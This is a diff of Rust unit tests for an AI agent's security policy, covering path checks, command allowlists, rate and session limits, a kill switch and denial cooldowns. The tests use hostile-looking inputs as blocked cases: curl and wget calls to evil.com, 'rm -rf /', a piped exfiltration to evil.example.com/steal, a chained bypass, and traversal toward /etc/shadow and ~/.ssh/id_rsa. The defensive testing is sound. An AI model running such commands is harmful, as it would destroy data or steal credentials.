+        assert!(!p.is_path_allowed("../etc/passwd"));
+        assert!(!p.is_path_allowed("../../root/.ssh/id_rsa"));
+        assert!(!p.is_path_allowed("foo/../../../etc/shadow"));
+        assert!(!p.is_path_allowed(".."));
     }
 
     #[test]
-    fn enforce_tool_operation_read_allowed_in_readonly_mode() {
-        let p = readonly_policy();
-        assert!(p
-            .enforce_tool_operation(ToolOperation::Read, "memory_recall")
-            .is_ok());
+    fn absolute_paths_blocked_when_workspace_only() {
+        let p = default_policy();
+        assert!(!p.is_path_allowed("/etc/passwd"));
+        assert!(!p.is_path_allowed("/root/.ssh/id_rsa"));
+        assert!(!p.is_path_allowed("/tmp/file.txt"));
     }
 
     #[test]
-    fn enforce_tool_operation_act_blocked_in_readonly_mode() {
-        let p = readonly_policy();
-        let err = p
-            .enforce_tool_operation(ToolOperation::Act, "memory_store")
-            .unwrap_err();
-        assert!(err.contains("read-only mode"));
+    fn absolute_paths_allowed_when_not_workspace_only() {
+        let p = SecurityPolicy {
+            workspace_only: false,
+            forbidden_paths: vec![],
+            ..SecurityPolicy::default()
+        };
+        assert!(p.is_path_allowed("/tmp/file.txt"));
     }
 
     #[test]
-    fn enforce_tool_operation_act_uses_rate_budget() {
+    fn forbidden_paths_blocked() {
         let p = SecurityPolicy {
-            max_actions_per_hour: 0,
-            ..default_policy()
+            workspace_only: false,
+            ..SecurityPolicy::default()
         };
-        let err = p
-            .enforce_tool_operation(ToolOperation::Act, "memory_store")
-            .unwrap_err();
-        assert!(err.contains("Rate limit exceeded"));
+        assert!(!p.is_path_allowed("/etc/passwd"));
+        assert!(!p.is_path_allowed("/root/.bashrc"));
+        assert!(!p.is_path_allowed("~/.ssh/id_rsa"));
+        assert!(!p.is_path_allowed("~/.gnupg/pubring.kbx"));
     }
 
-    // ── is_command_allowed ───────────────────────────────────
-
     #[test]
-    fn allowed_commands_basic() {
+    fn empty_path_allowed() {
         let p = default_policy();
-        assert!(p.is_command_allowed("ls"));
-        assert!(p.is_command_allowed("git status"));
-        assert!(p.is_command_allowed("cargo build --release"));
-        assert!(p.is_command_allowed("mkdir -p docs"));
-        assert!(p.is_command_allowed("touch notes.md"));
-        assert!(p.is_command_allowed("cat file.txt"));
-        assert!(p.is_command_allowed("grep -r pattern ."));
-        assert!(p.is_command_allowed("date"));
+        assert!(p.is_path_allowed(""));
     }
 
     #[test]
-    fn blocked_commands_basic() {
+    fn dotfile_in_workspace_allowed() {
         let p = default_policy();
-        assert!(!p.is_command_allowed("rm -rf /"));
-        assert!(!p.is_command_allowed("sudo apt install"));
-        assert!(!p.is_command_allowed("curl http://evil.com"));
-        assert!(!p.is_command_allowed("wget http://evil.com"));
-        assert!(!p.is_command_allowed("python3 exploit.py"));
-        assert!(!p.is_command_allowed("node malicious.js"));
+        assert!(p.is_path_allowed(".gitignore"));
+        assert!(p.is_path_allowed(".env"));
     }
 
     #[test]
-    fn readonly_blocks_all_commands() {
-        let p = readonly_policy();
-        assert!(!p.is_command_allowed("ls"));
-        assert!(!p.is_command_allowed("cat file.txt"));
-        assert!(!p.is_command_allowed("echo hello"));
+    fn resolve_user_supplied_path_joins_workspace_for_relative_inputs() {
+        let workspace = std::env::temp_dir().join("zeroclaw_test_resolve_user_path_relative");
+        let p = SecurityPolicy {
+            workspace_dir: workspace.clone(),
+            ..SecurityPolicy::default()
+        };
+        assert_eq!(
+            p.resolve_user_supplied_path("src/main.rs"),
+            workspace.join("src/main.rs")
+        );
     }
 
     #[test]
-    fn full_autonomy_still_uses_allowlist() {
-        let p = full_policy();
-        assert!(p.is_command_allowed("ls"));
-        assert!(!p.is_command_allowed("rm -rf /"));
+    fn resolve_user_supplied_path_expands_home_tilde() {
+        let p = default_policy();
+        let expected = std::env::var_os("HOME")
+            .map(PathBuf::from)
+            .unwrap_or_else(|| PathBuf::from("~"))
+            .join("notes/todo.txt");
+        assert_eq!(p.resolve_user_supplied_path("~/notes/todo.txt"), expected);
     }
 
+    // ── from_config ─────────────────────────────────────────
+
     #[test]
-    fn command_with_absolute_path_extracts_basename() {
-        let p = default_policy();
-        assert!(p.is_command_allowed("/usr/bin/git status"));
-        assert!(p.is_command_allowed("/bin/ls -la"));
+    fn from_config_maps_all_fields() {
+        let autonomy_config = crate::config::AutonomyConfig {
+            level: AutonomyLevel::Full,
+            workspace_only: false,
+            allowed_commands: vec!["docker".into()],
+            forbidden_paths: vec!["/secret".into()],
+            max_actions_per_hour: 100,
+            max_cost_per_day_cents: 1000,
+            require_approval_for_medium_risk: false,
+            block_high_risk_commands: false,
+            shell_env_passthrough: vec!["DATABASE_URL".into()],
+            allow_sensitive_file_reads: true,
+            allow_sensitive_file_writes: true,
+            denied_tools: vec![" shell ".into(), String::new()],
+            ..crate::config::AutonomyConfig::default()
+        };
+        let workspace = PathBuf::from("/tmp/test-workspace");
+        let policy = SecurityPolicy::from_config(&autonomy_config, &workspace);
+
+        assert_eq!(policy.autonomy, AutonomyLevel::Full);
+        assert!(!policy.workspace_only);
+        assert_eq!(policy.allowed_commands, vec!["docker"]);
+        assert_eq!(policy.forbidden_paths, vec!["/secret"]);
+        assert_eq!(policy.max_actions_per_hour, 100);
+        assert_eq!(policy.max_cost_per_day_cents, 1000);
+        assert!(!policy.require_approval_for_medium_risk);
+        assert!(!policy.block_high_risk_commands);
+        assert_eq!(policy.shell_env_passthrough, vec!["DATABASE_URL"]);
+        assert!(policy.allow_sensitive_file_reads);
+        assert!(policy.allow_sensitive_file_writes);
+        assert_eq!(policy.denied_tools, vec!["shell"]);
+        assert_eq!(policy.workspace_dir, PathBuf::from("/tmp/test-workspace"));
     }
 
     #[test]
-    fn allowlist_supports_explicit_executable_paths() {
-        let p = SecurityPolicy {
-            allowed_commands: vec!["/usr/bin/antigravity".into()],
-            ..SecurityPolicy::default()
+    fn from_config_normalizes_allowed_roots() {
+        let autonomy_config = crate::config::AutonomyConfig {
+            allowed_roots: vec!["~/Desktop".into(), "shared-data".into()],
+            ..crate::config::AutonomyConfig::default()
         };
+        let workspace = PathBuf::from("/tmp/test-workspace");
+        let policy = SecurityPolicy::from_config(&autonomy_config, &workspace);
 
-        assert!(p.is_command_allowed("/usr/bin/antigravity"));
-        assert!(!p.is_command_allowed("antigravity"));
+        let expected_home_root = if let Some(home) = std::env::var_os("HOME") {
+            PathBuf::from(home).join("Desktop")
+        } else {
+            PathBuf::from("~/Desktop")
+        };
+
+        assert_eq!(policy.allowed_roots[0], expected_home_root);
+        assert_eq!(policy.allowed_roots[1], workspace.join("shared-data"));
     }
 
     #[test]
-    fn allowlist_supports_wildcard_entry() {
-        let p = SecurityPolicy {
-            allowed_commands: vec!["*".into()],
-            ..SecurityPolicy::default()
+    fn from_config_maps_command_rule_require_approval_action() {
+        let autonomy_config = crate::config::AutonomyConfig {
+            command_context_rules: vec![crate::config::CommandContextRuleConfig {
+                command: "rm".into(),
+                action: crate::config::CommandContextRuleAction::RequireApproval,
+                allowed_domains: vec![],
+                allowed_path_prefixes: vec![],
+                denied_path_prefixes: vec![],
+                allow_high_risk: false,
+            }],
+            ..crate::config::AutonomyConfig::default()
         };
+        let workspace = PathBuf::from("/tmp/test-workspace");
+        let policy = SecurityPolicy::from_config(&autonomy_config, &workspace);
 
-        assert!(p.is_command_allowed("python3 --version"));
-        assert!(p.is_command_allowed("/usr/bin/antigravity"));
-
-        // Wildcard still respects risk gates in validate_command_execution.
-        let blocked = p.validate_command_execution("rm -rf tmp_test_dir", true);
-        assert!(blocked.is_err());
-        assert!(blocked.unwrap_err().contains("high-risk"));
+        assert_eq!(policy.command_context_rules.len(), 1);
+        assert!(matches!(
+            policy.command_context_rules[0].action,
+            CommandContextRuleAction::RequireApproval
+        ));
     }
 
     #[test]
-    fn empty_command_blocked() {
+    fn resolved_path_violation_message_includes_allowed_roots_guidance() {
         let p = default_policy();
-        assert!(!p.is_command_allowed(""));
-        assert!(!p.is_command_allowed("   "));
+        let msg = p.resolved_path_violation_message(Path::new("/tmp/outside.txt"));
+        assert!(msg.contains("escapes workspace"));
+        assert!(msg.contains("allowed_roots"));
     }
 
+    // ── Default policy ──────────────────────────────────────
+
     #[test]
-    fn command_with_pipes_validates_all_segments() {
-        let p = default_policy();
-        // Both sides of the pipe are in the allowlist
-        assert!(p.is_command_allowed("ls | grep foo"));
-        assert!(p.is_command_allowed("cat file.txt | wc -l"));
-        // Second command not in allowlist — blocked
-        assert!(!p.is_command_allowed("ls | curl http://evil.com"));
-        assert!(!p.is_command_allowed("echo hello | python3 -"));
+    fn default_policy_has_sane_values() {
+        let p = SecurityPolicy::default();
+        assert_eq!(p.autonomy, AutonomyLevel::Supervised);
+        assert!(p.workspace_only);
+        assert!(!p.allowed_commands.is_empty());
+        assert!(!p.forbidden_paths.is_empty());
+        assert!(p.max_actions_per_hour > 0);
+        assert!(p.max_cost_per_day_cents > 0);
+        assert!(p.require_approval_for_medium_risk);
+        assert!(p.block_high_risk_commands);
+        assert!(p.shell_env_passthrough.is_empty());
     }
 
+    // ── ActionTracker / rate limiting ───────────────────────
+
     #[test]
-    fn custom_allowlist() {
+    fn action_tracker_starts_at_zero() {
+        let tracker = ActionTracker::new();
+        assert_eq!(tracker.count(), 0);
+    }
+
+    #[test]
+    fn action_tracker_records_actions() {
+        let tracker = ActionTracker::new();
+        assert_eq!(tracker.record(), 1);
+        assert_eq!(tracker.record(), 2);
+        assert_eq!(tracker.record(), 3);
+        assert_eq!(tracker.count(), 3);
+    }
+
+    #[test]
+    fn memory_quota_limits_bytes_and_daily_entries() {
         let p = SecurityPolicy {
-            allowed_commands: vec!["docker".into(), "kubectl".into()],
+            max_memory_bytes: 100,
+            max_memory_entries_per_day: 2,
             ..SecurityPolicy::default()
         };
-        assert!(p.is_command_allowed("docker ps"));
-        assert!(p.is_command_allowed("kubectl get pods"));
-        assert!(!p.is_command_allowed("ls"));
-        assert!(!p.is_command_allowed("git status"));
+        assert!(p.check_memory_quota(60, 40).is_ok());
+        let err = p.check_memory_quota(60, 41).unwrap_err();
+        assert!(err.starts_with("Rate limit exceeded: memory quota"));
+
+        p.record_memory_write();
+        assert!(p.check_memory_quota(0, 1).is_ok());
+        p.record_memory_write();
+        let err = p.check_memory_quota(0, 1).unwrap_err();
+        assert!(err.contains("2 entries per day"));
+
+        let unlimited = SecurityPolicy::default();
+        assert!(unlimited.check_memory_quota(u64::MAX, 1).is_ok());
+    }
+
+    #[test]
+    fn record_action_allows_within_limit() {
+        let p = SecurityPolicy {
+            max_actions_per_hour: 5,
+            ..SecurityPolicy::default()
+        };
+        for _ in 0..5 {
+            assert!(p.record_action(), "should allow actions within limit");
+        }
     }
 
     #[test]
-    fn empty_allowlist_blocks_everything() {
+    fn record_action_blocks_over_limit() {
         let p = SecurityPolicy {
-            allowed_commands: vec![],
+            max_actions_per_hour: 3,
             ..SecurityPolicy::default()
         };
-        assert!(!p.is_command_allowed("ls"));
-        assert!(!p.is_command_allowed("echo hello"));
+        assert!(p.record_action()); // 1
+        assert!(p.record_action()); // 2
+        assert!(p.record_action()); // 3
+        assert!(!p.record_action()); // 4 — over limit
     }
 
     #[test]
-    fn context_allow_rule_overrides_global_allowlist_for_curl_domain() {
+    fn is_rate_limited_reflects_count() {
         let p = SecurityPolicy {
-            autonomy: AutonomyLevel::Full,
-            allowed_commands: vec![],
-            command_context_rules: vec![CommandContextRule {
-                command: "curl".into(),
-                action: CommandContextRuleAction::Allow,
-                allowed_domains: vec!["api.example.com".into()],
-                allowed_path_prefixes: vec![],
-                denied_path_prefixes: vec![],
-                allow_high_risk: true,
-            }],
+            max_actions_per_hour: 2,
             ..SecurityPolicy::default()
         };
-
-        assert!(p.is_command_allowed("curl https://api.example.com/v1/health"));
-        assert!(p
-            .validate_command_execution("curl https://api.example.com/v1/health", true)
-            .is_ok());
+        assert!(!p.is_rate_limited());
+        p.record_action();
+        assert!(!p.is_rate_limited());
+        p.record_action();
+        assert!(p.is_rate_limited());
     }
 
     #[test]
-    fn context_allow_rule_restricts_curl_to_matching_domains() {
+    fn per_tool_limit_names_exceeded_bucket() {
         let p = SecurityPolicy {
             autonomy: AutonomyLevel::Full,
-            allowed_commands: vec!["curl".into()],
-            command_context_rules: vec![CommandContextRule {
-                command: "curl".into(),
-                action: CommandContextRuleAction::Allow,
-                allowed_domains: vec!["api.example.com".into()],
-                allowed_path_prefixes: vec![],
-                denied_path_prefixes: vec![],
-                allow_high_risk: true,
-            }],
+            per_tool_limits: HashMap::from([("memory_store".to_string(), 2)]),
             ..SecurityPolicy::default()
         };
-
-        assert!(!p.is_command_allowed("curl https://evil.example.com/steal"));
+        assert!(p
+            .enforce_tool_operation(ToolOperation::Act, "memory_store")
+            .is_ok());
+        assert!(p
+            .enforce_tool_operation(ToolOperation::Act, "Memory_Store")
+            .is_ok());
         let err = p
-            .validate_command_execution("curl https://evil.example.com/steal", true)
-            .expect_err("non-matching domains should be denied by context rules");
-        assert!(err.contains("context rule denied"));
+            .enforce_tool_operation(ToolOperation::Act, "memory_store")
+            .unwrap_err()
+            .to_string();
+        assert!(err.contains("'memory_store' budget exhausted (2 actions per hour)"));
+        // Other tools only draw on the global budget.
+        assert!(p
+            .enforce_tool_operation(ToolOperation::Act, "shell")
+            .is_ok());
     }
 
     #[test]
-    fn context_allow_rule_restricts_rm_to_allowed_path_prefix() {
+    fn global_limit_still_applies_to_tools_with_own_limit() {
         let p = SecurityPolicy {
             autonomy: AutonomyLevel::Full,
-            workspace_only: false,
-            allowed_commands: vec!["rm".into()],
-            forbidden_paths: vec![],
-            command_context_rules: vec![CommandContextRule {
-                command: "rm".into(),
-                action: CommandContextRuleAction::Allow,
-                allowed_domains: vec![],
-                allowed_path_prefixes: vec!["/tmp".into()],
-                denied_path_prefixes: vec![],
-                allow_high_risk: true,
-            }],
+            max_actions_per_hour: 1,
+            per_tool_limits: HashMap::from([("memory_store".to_string(), 10)]),
             ..SecurityPolicy::default()
         };
-
-        assert!(p.is_command_allowed("rm -rf /tmp/cleanup"));
         assert!(p
-            .validate_command_execution("rm -rf /tmp/cleanup", true)
+            .enforce_tool_operation(ToolOperation::Act, "memory_store")
             .is_ok());
-
-        assert!(!p.is_command_allowed("rm -rf /var/log"));
         let err = p
-            .validate_command_execution("rm -rf /var/log", true)
-            .expect_err("paths outside /tmp should be denied");
-        assert!(err.contains("context rule denied"));
+            .enforce_tool_operation(ToolOperation::Act, "memory_store")
+            .unwrap_err()
+            .to_string();
+        assert!(err.contains("global action budget exhausted (1 actions per hour)"));
+        // The denied call did not use up any of the tool's own budget.
+        assert_eq!(p.tool_trackers.count("memory_store"), 1);
     }
 
     #[test]
-    fn context_deny_rule_can_block_specific_domain_even_when_allowlisted() {
+    fn a_call_denied_by_one_budget_charges_none_of_the_others() {
         let p = SecurityPolicy {
             autonomy: AutonomyLevel::Full,
-            block_high_risk_commands: false,
-            allowed_commands: vec!["curl".into()],
-            command_context_rules: vec![CommandContextRule {
-                command: "curl".into(),
-                action: CommandContextRuleAction::Deny,
-                allowed_domains: vec!["evil.example.com".into()],
-                allowed_path_prefixes: vec![],
-                denied_path_prefixes: vec![],
-                allow_high_risk: false,
-            }],
+            max_actions_per_hour: 5,
+            per_tool_limits: HashMap::from([("memory_store".to_string(), 1)]),
             ..SecurityPolicy::default()
         };
-
-        assert!(p.is_command_allowed("curl https://api.example.com/v1/health"));
-        assert!(!p.is_command_allowed("curl https://evil.example.com/steal"));
+        assert!(p
+            .enforce_tool_operation(ToolOperation::Act, "memory_store")
+            .is_ok());
+        for _ in 0..3 {
+            assert!(p
+                .enforce_tool_operation(ToolOperation::Act, "memory_store")
+                .is_err());
+        }
+        assert_eq!(p.remaining_actions(), 4);
+        assert_eq!(p.tool_trackers.count("memory_store"), 1);
     }
 
     #[test]
-    fn context_require_approval_rule_demands_approval_for_matching_low_risk_command() {
-        let p = SecurityPolicy {
-            autonomy: AutonomyLevel::Supervised,
-            require_approval_for_medium_risk: false,
-            allowed_commands: vec!["ls".into()],
-            command_context_rules: vec![CommandContextRule {
-                command: "ls".into(),
-                action: CommandContextRuleAction::RequireApproval,
-                allowed_domains: vec![],
-                allowed_path_prefixes: vec![],
-                denied_path_prefixes: vec![],
-                allow_high_risk: false,
-            }],
-            ..SecurityPolicy::default()
-        };
-
-        let denied = p.validate_command_execution("ls -la", false);
-        assert!(denied.is_err());
-        assert!(denied.unwrap_err().contains("requires explicit approval"));
-
-        let allowed = p.validate_command_execution("ls -la", true);
-        assert_eq!(allowed.unwrap(), CommandRiskLevel::Low);
+    fn idle_sessions_are_evicted_from_session_counts() {
+        let counts = SessionActionCounts::with_idle_timeout(Duration::from_millis(50));
+        counts.record("alice");
+        counts.record("alice");
+        assert_eq!(counts.count("alice"), 2);
+        std::thread::sleep(Duration::from_millis(80));
+        counts.record("bob");
+        assert_eq!(counts.len(), 1);
+        assert_eq!(counts.count("alice"), 0);
     }
 
     #[test]
-    fn context_require_approval_rule_is_still_constrained_by_domains() {
-        let p = SecurityPolicy {
-            autonomy: AutonomyLevel::Supervised,
-            block_high_risk_commands: false,
-            allowed_commands: vec!["curl".into()],
-            command_context_rules: vec![CommandContextRule {
-                command: "curl".into(),
-                action: CommandContextRuleAction::RequireApproval,
-                allowed_domains: vec!["api.example.com".into()],
-                allowed_path_prefixes: vec![],
-                denied_path_prefixes: vec![],
-                allow_high_risk: false,
-            }],
+    fn kill_switch_refuses_act_at_any_autonomy_level() {
+        let tmp = tempfile::tempdir().unwrap();
+        let policy = SecurityPolicy {
+            autonomy: AutonomyLevel::Full,
+            workspace_dir: tmp.path().to_path_buf(),
             ..SecurityPolicy::default()
         };
+        assert!(policy.can_act());
 
-        // Non-matching domain does not trigger the context approval rule.
-        let unmatched = p.validate_command_execution("curl https://other.example.com/health", true);
-        assert_eq!(unmatched.unwrap(), CommandRiskLevel::High);
-
-        // Matching domain triggers explicit approval requirement.
-        let denied = p.validate_command_execution("curl https://api.example.com/v1/health", false);
-        assert!(denied.is_err());
-        assert!(denied.unwrap_err().contains("requires explicit approval"));
-    }
+        let kill = super::super::kill_switch::kill_switch_path(tmp.path());
+        std::fs::create_dir_all(kill.parent().unwrap()).unwrap();
+        std::fs::write(&kill, "").unwrap();
+        assert!(!policy.can_act());
+        assert_eq!(
+            policy.enforce_tool_operation(ToolOperation::Act, "shell"),
+            Err(PolicyDenial::KillSwitch {
+                operation: "shell".into()
+            })
+        );
+        assert!(policy
+            .enforce_tool_operation(ToolOperation::Read, "file_read")
+            .is_ok());
+        assert_eq!(policy.remaining_actions(), policy.max_actions_per_hour);
 
-    #[test]
-    fn command_risk_low_for_read_commands() {
-        let p = default_policy();
-        assert_eq!(p.command_risk_level("git status"), CommandRiskLevel::Low);
-        assert_eq!(p.command_risk_level("ls -la"), CommandRiskLevel::Low);
+        std::fs::remove_file(&kill).unwrap();
+        assert!(policy
+            .enforce_tool_operation(ToolOperation::Act, "shell")
+            .is_ok());
     }
 
     #[test]
-    fn command_risk_medium_for_mutating_commands() {
+    fn repeated_denials_put_the_tool_on_a_growing_cooldown() {
         let p = SecurityPolicy {
-            allowed_commands: vec!["git".into(), "touch".into()],
+            autonomy: AutonomyLevel::ReadOnly,
+            denial_cooldown_after: 2,
             ..SecurityPolicy::default()
         };
+        for _ in 0..2 {
+            assert!(matches!(
+                p.enforce_tool_operation(ToolOperation::Act, "shell"),
+                Err(PolicyDenial::ReadOnly { .. })
+            ));
+        }
+        let denial = p
+            .enforce_tool_operation(ToolOperation::Act, "shell")
+            .unwrap_err();
+        assert!(matches!(denial, PolicyDenial::Cooldown { denials: 2, .. }));
+        assert!(denial
+            .to_string()
+            .ends_with("read-only mode, cannot perform 'shell'"));
+        assert!(denial.retry_after().unwrap() <= Duration::from_secs(30));
+        assert!(p
+            .enforce_tool_operation(ToolOperation::Read, "file_read")
+            .is_ok());
+
+        let streaks = DenialStreaks::default();
+        let (base, max) = (Duration::from_secs(30), Duration::from_secs(45));
+        assert_eq!(streaks.record_denial("Shell", "no", 2, base, max), None);
         assert_eq!(
-            p.command_risk_level("git reset --hard HEAD~1"),
-            CommandRiskLevel::Medium
+            streaks.record_denial("shell", "no", 2, base, max),
+            Some((2, base))
         );
         assert_eq!(
-            p.command_risk_level("touch file.txt"),
-            CommandRiskLevel::Medium
+            streaks.record_denial("shell", "no", 2, base, max),
+            Some((3, max))
         );
+        streaks.clear("SHELL");
+        assert_eq!(streaks.cooldown("shell"), None);
     }
 
     #[test]
-    fn command_risk_high_for_dangerous_commands() {
+    fn denials_are_structured_and_rate_limits_report_retry_after() {
         let p = SecurityPolicy {
-            allowed_commands: vec!["rm".into()],
+            autonomy: AutonomyLevel::Full,
+            max_actions_per_hour: 1,
+            denied_tools: vec!["shell".into()],
             ..SecurityPolicy::default()
         };
         assert_eq!(
-            p.command_risk_level("rm -rf /tmp/test"),
-            CommandRiskLevel::High
+            p.enforce_tool_operation(ToolOperation::Read, "shell"),
+            Err(PolicyDenial::ToolDenied {
+                tool: "shell".into()
+            })
         );
-    }
 
-    #[test]
-    fn validate_command_requires_approval_for_medium_risk() {
-        let p = SecurityPolicy {
-            autonomy: AutonomyLevel::Supervised,
-            require_approval_for_medium_risk: true,
-            allowed_commands: vec!["touch".into()],
-            ..SecurityPolicy::default()
+        assert!(p
+            .enforce_tool_operation(ToolOperation::Act, "memory_store")
+            .is_ok());
+        let denial = p
+            .enforce_tool_operation(ToolOperation::Act, "memory_store")
+            .unwrap_err();
+        let PolicyDenial::RateLimited {
+            scope: RateLimitScope::Global,
+            limit: 1,
+            burst: Some(1),
+            retry_after: Some(wait),
+        } = denial.clone()
+        else {
+            panic!("expected a global rate limit, got {denial:?}");
         };
+        assert!(wait > Duration::from_secs(3500) && wait <= Duration::from_secs(3600));
+        assert_eq!(denial.retry_after(), Some(wait));
+        assert!(denial.to_string().ends_with("; retry in 3600s"));
 
-        let denied = p.validate_command_execution("touch test.txt", false);
-        assert!(denied.is_err());
-        assert!(denied.unwrap_err().contains("requires explicit approval"),);
-
-        let allowed = p.validate_command_execution("touch test.txt", true);
-        assert_eq!(allowed.unwrap(), CommandRiskLevel::Medium);
-    }
-
-    #[test]
-    fn validate_command_blocks_high_risk_by_default() {
-        let p = SecurityPolicy {
-            autonomy: AutonomyLevel::Supervised,
-            allowed_commands: vec!["rm".into()],
+        let read_only = SecurityPolicy {
+            autonomy: AutonomyLevel::ReadOnly,
             ..SecurityPolicy::default()
         };
-
-        let result = p.validate_command_execution("rm -rf tmp_test_dir", true);
-        assert!(result.is_err());
-        assert!(result.unwrap_err().contains("high-risk"));
+        let denial = read_only
+            .enforce_tool_operation(ToolOperation::Act, "file_write")
+            .unwrap_err();
+        assert!(matches!(denial, PolicyDenial::ReadOnly { .. }));
+        assert_eq!(denial.retry_after(), None);
     }
 
-    #[test]
-    fn validate_command_full_mode_skips_medium_risk_approval_gate() {
-        let p = SecurityPolicy {
-            autonomy: AutonomyLevel::Full,
-            require_approval_for_medium_risk: true,
-            allowed_commands: vec!["touch".into()],
+    #[tokio::test]
+    async fn capture_reports_the_first_denial_raised_during_a_call() {
+        let read_only = SecurityPolicy {
+            autonomy: AutonomyLevel::ReadOnly,
+            denied_hosts: vec!["example.com".into()],
             ..SecurityPolicy::default()
         };
+        let (decision, denial) = PolicyDenial::capture(async {
+            let first = read_only.enforce_tool_operation(ToolOperation::Act, "file_write");
+            assert!(read_only.egress().check_host("example.com").is_err());
+            first
+        })
+        .await;
+        assert_eq!(decision.err(), denial);
+        assert!(matches!(denial, Some(PolicyDenial::ReadOnly { .. })));
 
-        let result = p.validate_command_execution("touch test.txt", false);
-        assert_eq!(result.unwrap(), CommandRiskLevel::Medium);
-    }
-
-    #[test]
-    fn validate_command_rejects_background_chain_bypass() {
-        let p = default_policy();
-        let result = p.validate_command_execution("ls & python3 -c 'print(1)'", false);
-        assert!(result.is_err());
-        assert!(result.unwrap_err().contains("not allowed"));
-    }
-
-    // ── is_path_allowed ─────────────────────────────────────
-
-    #[test]
-    fn relative_paths_allowed() {
-        let p = default_policy();
-        assert!(p.is_path_allowed("file.txt"));
-        assert!(p.is_path_allowed("src/main.rs"));
-        assert!(p.is_path_allowed("deep/nested/dir/file.txt"));
-    }
-
-    #[test]
-    fn path_traversal_blocked() {
-        let p = default_policy();
-        assert!(!p.is_path_allowed("../etc/passwd"));
-        assert!(!p.is_path_allowed("../../root/.ssh/id_rsa"));
-        assert!(!p.is_path_allowed("foo/../../../etc/shadow"));
-        assert!(!p.is_path_allowed(".."));
-    }
-
-    #[test]
-    fn absolute_paths_blocked_when_workspace_only() {
-        let p = default_policy();
-        assert!(!p.is_path_allowed("/etc/passwd"));
-        assert!(!p.is_path_allowed("/root/.ssh/id_rsa"));
-        assert!(!p.is_path_allowed("/tmp/file.txt"));
+        let (_, denial) = PolicyDenial::capture(async {
+            read_only.enforce_tool_operation(ToolOperation::Read, "file_read")
+        })
+        .await;
+        assert_eq!(denial, None);
     }
 
-    #[test]
-    fn absolute_paths_allowed_when_not_workspace_only() {
+    #[tokio::test]
+    async fn session_cap_limits_each_conversation_separately() {
         let p = SecurityPolicy {
-            workspace_only: false,
-            forbidden_paths: vec![],
+            max_actions_per_session: 2,
             ..SecurityPolicy::default()
         };
-        assert!(p.is_path_allowed("/tmp/file.txt"));
+        let in_session = |id: &str| ToolExecutionContext {
+            session_id: Some(id.to_string()),
+            ..ToolExecutionContext::default()
+        };
+
+        in_session("alice")
+            .scope(async {
+                assert!(p
+                    .enforce_tool_operation(ToolOperation::Act, "shell")
+                    .is_ok());
+                assert!(p.record_action());
+                let err = p
+                    .enforce_tool_operation(ToolOperation::Act, "shell")
+                    .unwrap_err()
+                    .to_string();
+                assert!(err.contains("session 'alice' budget exhausted (2 actions per session)"));
+                assert!(!p.record_action());
+            })
+            .await;
+        in_session("bob")
+            .scope(async { assert!(p.record_action()) })
+            .await;
+        // Calls outside a conversation only count against the hourly limit.
+        assert!(p.record_action());
+        // Denied attempts are not counted.
+        assert_eq!(p.session_actions.count("alice"), 2);
+    }
+
+    #[tokio::test]
+    async fn validate_command_applies_banned_flags_runtime_and_working_dirs() {
+        let tmp = tempfile::tempdir().unwrap();
+        std::fs::create_dir(tmp.path().join("scripts")).unwrap();
+        std::fs::create_dir(tmp.path().join("src")).unwrap();
+        let autonomy = crate::config::AutonomyConfig {
+            level: AutonomyLevel::Full,
+            allowed_commands: vec!["git".into(), "ls".into()],
+            command_policy: crate::config::CommandPolicyConfig {
+                banned_flags: HashMap::from([
+                    (
+                        "git".to_string(),
+                        vec!["--force".to_string(), "-f".to_string()],
+                    ),
+                    ("*".to_string(), vec!["-R".to_string()]),
+                ]),
+                max_runtime_secs: 30,
+                working_dirs: vec!["scripts".into()],
+            },
+            ..crate::config::AutonomyConfig::default()
+        };
+        let p = SecurityPolicy::from_config(&autonomy, tmp.path());
+
+        let ok = p
+            .validate_command("git status", Some("scripts"), false)
+            .await
+            .unwrap();
+        assert_eq!(
+            ok.working_dir,
+            tmp.path().join("scripts").canonicalize().unwrap()
+        );
+        assert_eq!(ok.max_runtime, Some(Duration::from_secs(30)));
+
+        for command in [
+            "git push --force",
+            "git push --force=true",
+            "git clean -df",
+            "ls -lR",
+        ] {
+            let err = p
+                .validate_command(command, Some("scripts"), false)
+                .await
+                .unwrap_err();
+            assert!(err.contains("is banned for"), "{command}: {err}");
+        }
+        // The rest of a bundle after a value-taking flag is its value.
+        assert!(p
+            .validate_command("git commit -mfix", Some("scripts"), false)
+            .await
+            .is_ok());
+        assert!(p
+            .validate_command("git commit -fmfix", Some("scripts"), false)
+            .await
+            .is_err());
+        // Still subject to the binary allowlist.
+        assert!(p
+            .validate_command("cargo build", Some("scripts"), false)
+            .await
+            .is_err());
+
+        let err = p
+            .validate_command("ls", Some("src"), false)
+            .await
+            .unwrap_err();
+        assert!(err.contains("autonomy.command_policy.working_dirs"));
+        assert!(p.validate_command("ls", None, false).await.is_err());
+        assert!(p
+            .validate_command("ls", Some("../.."), false)
+            .await
+            .is_err());
     }
 
     #[test]
-    fn forbidden_paths_blocked() {
+    fn exhausted_token_budget_degrades_to_read_only() {
         let p = SecurityPolicy {
-            workspace_only: false,
+            autonomy: AutonomyLevel::Full,
+            max_tokens_per_day: 100,
             ..SecurityPolicy::default()
         };
-        assert!(!p.is_path_allowed("/etc/passwd"));
-        assert!(!p.is_path_allowed("/root/.bashrc"));
-        assert!(!p.is_path_allowed("~/.ssh/id_rsa"));
-        assert!(!p.is_path_allowed("~/.gnupg/pubring.kbx"));
-    }
+        assert!(p.record_llm_usage(60, 0.0).is_none());
+        assert!(p
+            .enforce_tool_operation(ToolOperation::Act, "file_write")
+            .is_ok());
 
-    #[test]
-    fn empty_path_allowed() {
-        let p = default_policy();
-        assert!(p.is_path_allowed(""));
-    }
+        let reason = p.record_llm_usage(60, 0.0).unwrap();
+        assert!(reason.contains("daily token budget exhausted (120 of 100 tokens"));
+        // Reported once, when the budget is first exceeded.
+        assert!(p.record_llm_usage(10, 0.0).is_none());
 
-    #[test]
-    fn dotfile_in_workspace_allowed() {
-        let p = default_policy();
-        assert!(p.is_path_allowed(".gitignore"));
-        assert!(p.is_path_allowed(".env"));
+        assert!(!p.can_act());
+        let err = p
+            .enforce_tool_operation(ToolOperation::Act, "file_write")
+            .unwrap_err()
+            .to_string();
+        assert!(err.starts_with("Security policy: daily token budget exhausted"));
+        assert!(p
+            .enforce_tool_operation(ToolOperation::Read, "file_read")
+            .is_ok());
     }
 
     #[test]
-    fn resolve_user_supplied_path_joins_workspace_for_relative_inputs() {
-        let workspace = std::env::temp_dir().join("zeroclaw_test_resolve_user_path_relative");
+    fn llm_budgets_are_off_by_default_and_shared_by_clones() {
+        let p = SecurityPolicy::default();
